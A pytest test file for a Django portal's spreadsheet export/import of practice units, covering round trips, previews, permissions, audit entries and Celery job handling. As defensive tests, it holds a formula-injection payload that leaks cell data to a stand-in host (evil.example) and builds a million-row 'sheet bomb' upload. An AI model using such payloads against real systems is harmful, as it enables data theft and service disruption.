"""Export → import is a round trip: IDs update the units they name, a preview comes first,
an import is one audit entry, and long imports run as jobs (Celery, or in the request when
the queue is down). Plus the two export findings: formula-looking names and control
characters.

API messages are read in English (``api_en``); pages speak Chinese.
"""

from __future__ import annotations

import datetime as dt
import time
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from kombu.exceptions import OperationalError
from openpyxl import Workbook, load_workbook
from rest_framework.test import APIClient

from portal import imports, tasks
from portal.models import ImportJob
from practice import services, tree
from practice.choices import AuditAction, UnitKind
from practice.models import AuditEntry, Unit
from practice.tree import NodeSpec
from tests.conftest import World

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("compiled_catalogs")]

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
Api = Callable[..., APIClient]
Sheet = list[list[Any]]
NOT_HERE = "There is no unit with the ID “{}” here that you may update; leave the ID empty"


@pytest.fixture
def api(api_en: Api) -> Api:
    return api_en


# --- helpers -----------------------------------------------------------------------------


def exported(client: APIClient, unit: Unit) -> Sheet:
    response = client.get(f"/api/v1/units/{unit.pk}/export/")
    assert response.status_code == 200, response.content
    sheet = load_workbook(BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def workbook(rows: Sheet) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def row_of(sheet: Sheet, name: str) -> list[Any]:
    (row,) = [r for r in sheet[1:] if r[2] == name]
    return row


def set_cell(sheet: Sheet, name: str, header: str, value: Any) -> None:
    row_of(sheet, name)[sheet[0].index(header)] = value


def post(client: APIClient, unit: Unit, rows: Sheet, *, dry_run: bool = False) -> Any:
    url = f"/api/v1/units/{unit.pk}/import/" + ("?dry_run=1" if dry_run else "")
    content = workbook(rows)
    return client.post(url, {"file": BytesIO(content)}, format="multipart")


def problems(response: Any) -> list[str]:
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "invalid_import", body
    result: list[str] = body["detail"]["non_field_errors"]
    return result


def snapshot() -> list[tuple[Any, ...]]:
    return list(
        Unit.objects.order_by("tree_id", "lft").values_list(
            "pk", "name", "kind", "parent_id", "is_active", "contact_phone", "lft", "rght"
        )
    )


# --- the round trip ----------------------------------------------------------------------


def test_an_export_imported_back_changes_nothing_and_duplicates_nothing(
    world: World, api: Api
) -> None:
    client = api(world.town_manager)
    sheet = exported(client, world.town)
    before = snapshot()
    response = post(client, world.town, sheet)
    assert response.status_code == 201, response.content
    assert response.json() == {
        "created": 0,
        "units": [],
        "changed": 0,
        "changed_units": [],
        "unchanged": 3,
    }
    assert snapshot() == before
    entry = AuditEntry.objects.get()
    assert (entry.action, entry.unit, entry.changes) == (
        AuditAction.UNIT_IMPORTED,
        world.town,
        {"created": 0, "changed": 0, "unchanged": 3},
    )


def test_a_town_imported_under_another_town_creates_no_duplicates(world: World, api: Api) -> None:
    """The finding: a 26-unit town imported under another town created 26 copies."""
    services.unit_import_tree(
        actor=world.superuser,
        parent=world.town,
        spec=NodeSpec(
            {"name": "四村站", "kind": UnitKind.STATION},
            [NodeSpec({"name": f"四村{i:02d}点", "kind": UnitKind.POINT}) for i in range(22)],
        ),
    )
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    assert len(sheet) == 1 + 26
    before, entries = snapshot(), AuditEntry.objects.count()
    found = problems(post(client, world.town2, sheet))
    assert len(found) == 26
    for problem, row in zip(found, sheet[1:], strict=True):
        assert problem.startswith(f"Row {sheet.index(row) + 1}: {NOT_HERE.format(row[0])}")
    assert snapshot() == before
    assert AuditEntry.objects.count() == entries


def test_an_id_out_of_reach_is_answered_like_an_unknown_one(world: World, api: Api) -> None:
    """Units elsewhere in the county, above the target, in another county, unknown: one
    answer for all, so an import tells nothing about units the caller may not touch."""
    header = exported(api(world.town_manager), world.town)[0]
    ids = [
        world.other_station.pk,
        world.station3.pk,
        world.town.pk,
        world.centre.pk,
        99_999_999,
        "abc",
        "1.5",
    ]
    rows = [[unit_id, None, f"新站{i}", "实践站"] for i, unit_id in enumerate(ids)]
    found = problems(post(api(world.town_manager), world.town, [header, *rows]))
    assert found == [
        f"Row {i + 2}: {NOT_HERE.format(unit_id)} for a new unit." for i, unit_id in enumerate(ids)
    ]


def test_the_preview_shows_what_would_change_and_writes_nothing(world: World, api: Api) -> None:
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    header = sheet[0]
    set_cell(sheet, "一村站", "Contact phone", "0596-7000000")
    set_cell(sheet, "一村站", "Latitude", 24.5149)
    set_cell(sheet, "二村站", "Status", "停用")
    sheet.append([None, "一村站", "一村新点", "实践点", *[None] * (len(header) - 4)])
    before = snapshot()
    response = post(client, world.town, sheet, dry_run=True)
    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["dry_run"], body["created"], body["changed"], body["unchanged"]) == (True, 1, 2, 1)
    assert body["plan"] == {
        "created": [{"row": 5, "path": "一村站 / 一村新点", "kind": "point", "active": True}],
        "changed": [
            {
                "row": 2,
                "id": world.station.pk,
                "path": "一村站",
                "changes": {
                    "contact_phone": ["", "0596-7000000"],
                    "latitude": [None, "24.514900"],
                },
            },
            {
                "row": 4,
                "id": world.station2.pk,
                "path": "二村站",
                "changes": {"is_active": [True, False]},
            },
        ],
        "unchanged": [{"row": 3, "id": world.point.pk, "path": "一村站 / 一村点"}],
    }
    assert snapshot() == before
    assert not AuditEntry.objects.exists()

    response = post(client, world.town, sheet)
    assert response.status_code == 201, response.content
    body = response.json()
    new = Unit.objects.get(name="一村新点")
    assert body == {
        "created": 1,
        "units": [],
        "changed": 2,
        "changed_units": [world.station.pk, world.station2.pk],
        "unchanged": 1,
    }
    world.refresh()
    assert (new.parent, world.station.contact_phone, world.station.latitude) == (
        world.station,
        "0596-7000000",
        Decimal("24.514900"),
    )
    assert world.station2.is_active is False
    assert tree.tree_problems(world.centre.tree_id) == []
    entry = AuditEntry.objects.get()
    assert (entry.unit, entry.actor, entry.changes) == (
        world.town,
        world.coordinator,
        {"created": 1, "changed": 2, "unchanged": 1},
    )


def test_the_api_import_answers_the_plans_problems_and_a_dry_run_needs_the_same_rights(
    world: World, api: Api
) -> None:
    sheet = exported(api(world.coordinator), world.town)
    set_cell(sheet, "一村站", "Kind", "村委会")
    found = problems(post(api(world.coordinator), world.town, sheet, dry_run=True))
    assert found[0].startswith("Row 2: Unknown kind “村委会”")
    for who, status in (
        (None, 401),
        (world.no_role, 404),
        (world.other_coordinator, 404),
        (world.station_manager, 404),
    ):
        assert post(api(who), world.town, sheet, dry_run=True).status_code == status, who
    bad = api(world.coordinator).post(
        f"/api/v1/units/{world.town.pk}/import/?dry_run=maybe",
        {"file": BytesIO(workbook(sheet))},
        format="multipart",
    )
    assert bad.status_code == 400 and list(bad.json()["detail"]) == ["dry_run"]


def test_an_import_does_not_move_units(world: World, api: Api) -> None:
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    set_cell(sheet, "一村点", "Parent", None)  # as if directly under 一镇所
    assert problems(post(client, world.town, sheet)) == [
        "Row 3: “一村点” is under “一村站”; an import does not move units. Correct its parent "
        "column, or move it with Move on its page."
    ]
    # Under a new unit of the sheet: a move too.
    sheet = exported(client, world.town)
    sheet.insert(2, [None, None, "新站", "实践站", *[None] * (len(sheet[0]) - 4)])
    set_cell(sheet, "一村点", "Parent", "新站")
    assert problems(post(client, world.town, sheet))[0].startswith(
        "Row 4: “一村点” is under “一村站”"
    )


def test_an_id_named_twice_is_a_problem(world: World, api: Api) -> None:
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    twin = list(row_of(sheet, "二村站"))
    twin[2] = "二村站（重复）"
    sheet.append(twin)
    assert problems(post(client, world.town, sheet)) == [
        f"Row 5: The ID {world.station2.pk} is also in row 4."
    ]


def test_statuses_keep_the_public_tree_whole(world: World, api: Api) -> None:
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    set_cell(sheet, "一村站", "Status", "Inactive")
    assert problems(post(client, world.town, sheet)) == [
        "Row 2: Deactivate or move its active sub-units first."
    ]
    set_cell(sheet, "一村点", "Status", "停用")
    assert post(client, world.town, sheet).status_code == 201
    world.refresh()
    assert (world.station.is_active, world.point.is_active) == (False, False)

    sheet = exported(client, world.town)
    assert [row[-1] for row in sheet[1:]] == ["Inactive", "Inactive", "Active"]
    set_cell(sheet, "一村点", "Status", "Active")
    sheet.append([None, "一村站", "新点", "实践点", *[None] * (len(sheet[0]) - 4)])
    set_cell(sheet, "二村站", "Status", "关闭")
    assert problems(post(client, world.town, sheet)) == [
        "Row 3: Its parent unit is inactive; reactivate the parent first.",
        "Row 4: Unknown status “关闭”; the status must be one of: Active, Inactive.",
        "Row 5: “一村站” is inactive; reactivate it before adding units under it.",
    ]
    # Reactivating the parent in the same sheet makes it whole again.
    set_cell(sheet, "一村站", "Status", "启用")
    set_cell(sheet, "二村站", "Status", None)
    assert post(client, world.town, sheet).status_code == 201
    world.refresh()
    assert (world.station.is_active, world.point.is_active) == (True, True)
    assert Unit.objects.get(name="新点").is_active


def test_a_new_kind_must_suit_the_sub_units_the_sheet_leaves_out(world: World, api: Api) -> None:
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    sheet = [sheet[0], row_of(sheet, "一村站")]
    set_cell(sheet, "一村站", "Kind", "实践点")
    assert problems(post(client, world.town, sheet)) == [
        "Row 2: Its sub-units would break the rules: A Practice point cannot be placed under a "
        "Practice point; its parent must be: Practice centre, Practice institute, Practice "
        "station."
    ]


def test_renames_and_swapped_names_keep_the_tree_in_order(world: World, api: Api) -> None:
    client = api(world.coordinator)
    sheet = exported(client, world.town)
    sheet = [sheet[0], row_of(sheet, "一村站"), row_of(sheet, "二村站")]
    set_cell(sheet, "一村站", "Name", "二村站")
    sheet[2][2] = "一村站"
    response = post(client, world.town, sheet)
    assert response.status_code == 201, response.content
    assert response.json()["changed"] == 2
    world.refresh()
    assert (world.station.name, world.station2.name) == ("二村站", "一村站")
    assert world.point.parent == world.station
    children = list(Unit.objects.filter(parent=world.town).order_by("lft"))
    assert [u.name for u in children] == ["一村站", "二村站"]
    assert tree.tree_problems(world.centre.tree_id) == []


def test_the_writing_reports_its_progress(world: World) -> None:
    rows = [
        tree.UnitRow(row=2, parent="", fields={"name": "四村站", "kind": UnitKind.STATION}),
        tree.UnitRow(
            row=3,
            parent="",
            fields={"name": "一村站", "kind": UnitKind.STATION, "address": "新地址"},
            id=world.station.pk,
        ),
    ]
    seen: list[tuple[int, int]] = []
    result = services.unit_import_apply(
        actor=world.town_manager,
        parent=world.town,
        rows=rows,
        progress=lambda done, total: seen.append((done, total)),
    )
    assert seen == [(0, 2), (1, 2), (2, 2)]
    assert (len(result.created), result.changed) == (1, [world.station.pk])


def test_the_sheet_bomb_through_the_api_is_refused_in_bounded_time(world: World, api: Api) -> None:
    def rows() -> Iterator[bytes]:
        yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        yield b'<sheetData><row><c t="inlineStr"><is><t>Name</t></is></c>'
        yield b'<c t="inlineStr"><is><t>Kind</t></is></c></row>'
        block = b'<row><c r="XFD1"><v>1</v></c></row>' * 10_000
        for _ in range(100):  # a million rows, ~35 MB unpacked
            yield block
        yield b"</sheetData></worksheet>"

    source = zipfile.ZipFile(BytesIO(workbook([["Name", "Kind"]])))
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with archive.open(info.filename, "w") as part:
                    for chunk in rows():
                        part.write(chunk)
            else:
                archive.writestr(info, source.read(info.filename))
    started = time.perf_counter()
    response = api(world.coordinator).post(
        f"/api/v1/units/{world.town.pk}/import/",
        {"file": BytesIO(out.getvalue())},
        format="multipart",
    )
    assert response.status_code == 400, response.content
    assert response.json()["message"].startswith("The sheet goes on past row 5010.")
    assert time.perf_counter() - started < 5


# --- the two export findings -------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def test_a_formula_looking_name_is_exported_as_text(
    world: World, api: Api, browser_client: Any
) -> None:
    Unit.objects.filter(pk=world.station.pk).update(name=FORMULA_NAME, contact_name="@admin")
    page = browser_client(world.coordinator).get(reverse("unit-export", args=[world.town.pk]))
    endpoint = api(world.coordinator).get(f"/api/v1/units/{world.town.pk}/export/")
    for response in (page, endpoint):
        assert response.status_code == 200
        sheet = load_workbook(BytesIO(response.content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert FORMULA_NAME in [c.value for c in cells]
        with zipfile.ZipFile(BytesIO(response.content)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml
        # The point's parent column names the station: text too.
        assert [c.value for c in cells].count(FORMULA_NAME) == 2


def test_a_control_character_that_got_into_a_name_does_not_break_any_export(
    world: World, api: Api, browser_client: Any
) -> None:
    """Before: a 500 for the unit's export and every ancestor's (IllegalCharacterError)."""
    Unit.objects.filter(pk=world.point.pk).update(name="一村\x07点", address="a\x1bb")
    for unit in (world.station, world.town, world.centre):
        page = browser_client(world.coordinator).get(reverse("unit-export", args=[unit.pk]))
        endpoint = api(world.coordinator).get(f"/api/v1/units/{unit.pk}/export/")
        for response in (page, endpoint):
            assert response.status_code == 200, (unit, response.content[:300])
            values = [
                v
                for row in load_workbook(BytesIO(response.content)).worksheets[0].values
                for v in row
            ]
            assert "一村\ufffd点" in values and "a\ufffdb" in values


# --- import jobs: pages, Celery, the queue down ------------------------------------------


def upload_page(client: Any, unit: Unit, rows: Sheet) -> ImportJob:
    response = client.post(
        reverse("unit-import", args=[unit.pk]),
        {"file": _named(workbook(rows))},
    )
    assert response.status_code == 302, response.content[:3000]
    job = ImportJob.objects.get()
    assert response["Location"] == reverse("unit-import-job", args=[unit.pk, job.pk])
    return job


def _named(content: bytes) -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("网点.xlsx", content, content_type=XLSX)


def new_station_sheet(world: World, api: Api) -> Sheet:
    sheet = exported(api(world.coordinator), world.town)
    sheet.append([None, None, "四村站", "实践站", *[None] * (len(sheet[0]) - 4)])
    set_cell(sheet, "二村站", "Address", "二村 8 号")
    return sheet


def test_the_preview_page_then_celery_applies_the_job(
    world: World, api: Api, browser_client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    queued: list[int] = []
    original = tasks.run_import_job.delay

    def spy(pk: int) -> Any:
        queued.append(pk)
        return original(pk)  # eager here: no REDIS_URL

    monkeypatch.setattr(tasks.run_import_job, "delay", spy)
    client = browser_client(world.coordinator)
    job = upload_page(client, world.town, new_station_sheet(world, api))
    assert (job.status, job.filename, job.target_id) == ("preview", "网点.xlsx", world.town.pk)
    page = client.get(reverse("unit-import-job", args=[world.town.pk, job.pk]))
    html = page.content.decode()
    assert 'id="import-confirm"' in html and "四村站" in html.split('id="import-created"')[1]
    assert "二村 8 号" in html.split('id="import-changed"')[1]
    assert "<script>" not in html and " onclick=" not in html
    assert not Unit.objects.filter(name="四村站").exists()

    done = client.post(reverse("unit-import-confirm", args=[world.town.pk, job.pk]), follow=True)
    assert queued == [job.pk]
    job.refresh_from_db()
    assert job.status == "done" and job.payload == {}
    assert job.result == {
        "created": 1,
        "units": [Unit.objects.get(name="四村站").pk],
        "changed": 1,
        "changed_units": [world.station2.pk],
        "unchanged": 2,
    }
    assert 'id="import-done"' in done.content.decode()
    status = client.get(reverse("unit-import-status", args=[world.town.pk, job.pk])).json()
    assert status["status"] == "done" and status["finished"] and status["done"] == status["total"]
    # Confirming again does nothing.
    client.post(reverse("unit-import-confirm", args=[world.town.pk, job.pk]))
    assert queued == [job.pk] and Unit.objects.filter(name="四村站").count() == 1
    assert AuditEntry.objects.get().changes == {"created": 1, "changed": 1, "unchanged": 2}


def test_when_the_task_queue_is_down_the_job_runs_in_the_request(
    world: World, api: Api, browser_client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unreachable(pk: int) -> Any:
        raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    monkeypatch.setattr(tasks.run_import_job, "delay", unreachable)
    client = browser_client(world.coordinator)
    job = upload_page(client, world.town, new_station_sheet(world, api))
    client.post(reverse("unit-import-confirm", args=[world.town.pk, job.pk]))
    job.refresh_from_db()
    assert job.status == "done"
    assert Unit.objects.filter(name="四村站", parent=world.town).count() == 1


def test_a_job_no_worker_took_can_be_run_from_its_page(
    world: World, api: Api, browser_client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tasks.run_import_job, "delay", lambda pk: None)  # queued, never run
    client = browser_client(world.coordinator)
    job = upload_page(client, world.town, new_station_sheet(world, api))
    client.post(reverse("unit-import-confirm", args=[world.town.pk, job.pk]))
    job.refresh_from_db()
    assert job.status == "queued"
    page_url = reverse("unit-import-job", args=[world.town.pk, job.pk])
    run_url = reverse("unit-import-run", args=[world.town.pk, job.pk])
    html = client.get(page_url).content.decode()
    assert 'data-status-url="' in html and 'id="import-run"' not in html
    assert "portal/import-job.js" in html
    client.post(run_url)  # not stalled yet: a worker may still take it
    job.refresh_from_db()
    assert job.status == "queued" and not Unit.objects.filter(name="四村站").exists()

    ImportJob.objects.filter(pk=job.pk).update(
        queued_at=timezone.now() - imports.STALLED_AFTER - dt.timedelta(seconds=1)
    )
    assert 'id="import-run"' in client.get(page_url).content.decode()
    assert client.get(reverse("unit-import-status", args=[world.town.pk, job.pk])).json()["stalled"]
    client.post(run_url)
    job.refresh_from_db()
    assert job.status == "done"
    # A late worker, or a second click, finds nothing to do.
    imports.run(job.pk)
    client.post(run_url)
    assert Unit.objects.filter(name="四村站").count() == 1
    assert AuditEntry.objects.filter(action=AuditAction.UNIT_IMPORTED).count() == 1


def test_a_plan_that_changed_after_the_preview_is_not_applied(
    world: World, api: Api, browser_client: Any
) -> None:
    client = browser_client(world.coordinator)
    job = upload_page(client, world.town, new_station_sheet(world, api))
    services.unit_update(actor=world.coordinator, unit=world.station2, data={"address": "别处"})
    page = client.post(reverse("unit-import-confirm", args=[world.town.pk, job.pk]), follow=True)
    job.refresh_from_db()
    assert (job.status, job.error["code"]) == ("failed", "import_outdated")
    assert 'id="import-failed"' in page.content.decode()
    assert not Unit.objects.filter(name="四村站").exists()
    assert not AuditEntry.objects.filter(action=AuditAction.UNIT_IMPORTED).exists()


def test_a_job_whose_rows_went_bad_meanwhile_fails_with_its_problems(
    world: World, api: Api, browser_client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = browser_client(world.coordinator)
    job = upload_page(client, world.town, new_station_sheet(world, api))
    services.unit_create(actor=world.coordinator, parent=world.town, name="四村站", kind="station")
    client.post(reverse("unit-import-confirm", args=[world.town.pk, job.pk]))
    job.refresh_from_db()
    assert job.status == "failed" and job.error["code"] == "invalid_import"
    assert "四村站" in job.error["message"]


@pytest.mark.parametrize("page", ["unit-import-job", "unit-import-status"])
def test_import_job_pages_belong_to_their_owner_and_unit(
    world: World, api: Api, browser_client: Any, page: str
) -> None:
    job = upload_page(browser_client(world.town_manager), world.town, new_station_sheet(world, api))
    url = reverse(page, args=[world.town.pk, job.pk])
    anonymous = browser_client(None).get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/accounts/login/")
    # Someone else's job is not found, even for a coordinator above; so is a job asked for
    # under another unit, and a unit outside the caller's scope.
    for who, status in (
        (world.town_manager, 200),
        (world.coordinator, 404),
        (world.superuser, 404),
        (world.station_manager, 404),
        (world.other_coordinator, 404),
        (world.no_role, 404),
    ):
        assert browser_client(who).get(url).status_code == status, who
    wrong_unit = reverse(page, args=[world.station.pk, job.pk])
    assert browser_client(world.town_manager).get(wrong_unit).status_code == 404


@pytest.mark.parametrize("action", ["unit-import-confirm", "unit-import-run"])
def test_only_the_owner_confirms_or_runs_a_job(
    world: World, api: Api, browser_client: Any, action: str
) -> None:
    job = upload_page(browser_client(world.town_manager), world.town, new_station_sheet(world, api))
    url = reverse(action, args=[world.town.pk, job.pk])
    assert browser_client(world.town_manager).get(url).status_code == 405
    for who in (world.coordinator, world.other_coordinator, world.no_role):
        assert browser_client(who).post(url).status_code == 404, who
    job.refresh_from_db()
    assert job.status == "preview"
    assert not Unit.objects.filter(name="四村站").exists()


def test_old_jobs_are_purged(world: World, api: Api, browser_client: Any) -> None:
    job = upload_page(browser_client(world.coordinator), world.town, new_station_sheet(world, api))
    assert tasks.purge_import_jobs() == 0
    ImportJob.objects.filter(pk=job.pk).update(
        created_at=timezone.now() - imports.KEEP_JOBS - dt.timedelta(minutes=1)
    )
    assert tasks.purge_import_jobs() == 1
    assert not ImportJob.objects.exists()
